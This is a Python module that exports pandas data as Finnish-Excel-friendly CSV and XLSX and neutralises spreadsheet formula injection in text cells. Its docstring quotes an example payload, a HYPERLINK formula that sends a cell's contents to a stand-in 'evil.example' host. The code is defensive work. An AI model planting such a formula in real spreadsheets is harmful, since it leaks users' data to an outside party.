"""Downloads people open in Excel: as a Finnish Excel user expects them, and text from files stays text.

CSV: semicolon-separated with a decimal comma and UTF-8 with a BOM (Finnish Excel opens it in columns, reads
``7,8`` as a number and ä/ö right); numbers as the caller rounded them, dates as ``2024-12-31`` (Excel
reads it as a date). XLSX: numbers are number cells with a number format of the decimals shown, dates are
date cells, missing values empty.

A cell that came from a file may begin with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return);
Excel would run it as a formula (``=HYPERLINK("https://evil.example/?d="&A1;…)``). In CSV such a text
cell gets a leading apostrophe, as OWASP advises; in XLSX every text cell is written as a string cell,
never a formula. Numbers stay numbers.
"""

from __future__ import annotations

import datetime as dt
import io

import pandas as pd
from openpyxl import Workbook
from openpyxl.utils import get_column_letter

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CSV_SEPARATOR = ";"
CSV_DECIMAL = ","
DATE_FORMATS = {"fi": "d.m.yyyy", "sv": "d.m.yyyy", "en": "d mmm yyyy"}


def neutralise(value):
    """A text value that a spreadsheet would read as a formula, made inert; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """Semicolons, decimal comma, UTF-8 with a BOM; text cells neutralised, dates ISO (``2024-12-31``)."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(neutralise)
    text = safe.to_csv(index=False, sep=CSV_SEPARATOR, decimal=CSV_DECIMAL, date_format="%Y-%m-%d")
    return text.encode("utf-8-sig")


def decimals_of(values: pd.Series, most: int = 6) -> int:
    """The fewest decimals that write every (already rounded) number of a column as it is."""
    numbers = [float(v) for v in values if not _missing(v)]
    for d in range(most + 1):
        if all(round(v, d) == v for v in numbers):
            return d
    return most


def number_format(decimals: int) -> str:
    """Excel's format code for ``decimals`` places (Finnish Excel shows its own decimal comma)."""
    return "0" if decimals <= 0 else "0." + "0" * decimals


def xlsx_bytes(
    sheets: dict[str, pd.DataFrame], decimals: dict[str, int | None] | None = None, lang: str = "fi"
) -> bytes:
    """One sheet per frame; text cells are string cells (never formulas), numbers number cells formatted with
    the decimals shown (``decimals`` by column name, ``None`` for each cell its own, else the fewest that write
    the column's values), dates date cells (``lang``'s order), missing empty."""
    decimals = decimals or {}
    book = Workbook()
    book.remove(book.active)
    for name, frame in sheets.items():
        sheet = book.create_sheet(title=name[:31])
        sheet.append([str(c) for c in frame.columns])
        for row in frame.itertuples(index=False):
            sheet.append([_cell(v) for v in row])
        for index, column in enumerate(frame.columns, start=1):
            per_cell = str(column) in decimals and decimals[str(column)] is None
            fmt = _column_format(frame[column], decimals.get(str(column)), lang)
            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # openpyxl would make "=…" a formula
                elif per_cell and isinstance(cell.value, float):
                    cell.number_format = number_format(decimals_of(pd.Series([cell.value])))
                elif fmt and cell.value is not None:
                    cell.number_format = fmt
            width = max([len(str(column))] + [len(str(v)) for v in frame[column].head(200)])
            sheet.column_dimensions[get_column_letter(index)].width = min(60, max(8, width + 2))
        for cell in sheet[1]:
            cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _column_format(values: pd.Series, decimals: int | None, lang: str) -> str | None:
    if pd.api.types.is_bool_dtype(values):
        return None
    if pd.api.types.is_datetime64_any_dtype(values) or any(isinstance(v, dt.date) for v in values):
        return DATE_FORMATS.get(lang, DATE_FORMATS["fi"])
    if pd.api.types.is_integer_dtype(values):
        return "0"
    if pd.api.types.is_float_dtype(values):
        return number_format(decimals if decimals is not None else decimals_of(values))
    return None


def _missing(value) -> bool:
    return value is None or value is pd.NA or value is pd.NaT or (isinstance(value, float) and pd.isna(value))


def _cell(value):
    if _missing(value):
        return None
    if isinstance(value, pd.Timestamp):
        return value.date() if value == value.normalize() else value.to_pydatetime()
    if hasattr(value, "item") and not isinstance(value, str):  # numpy scalars
        return value.item()
    return value
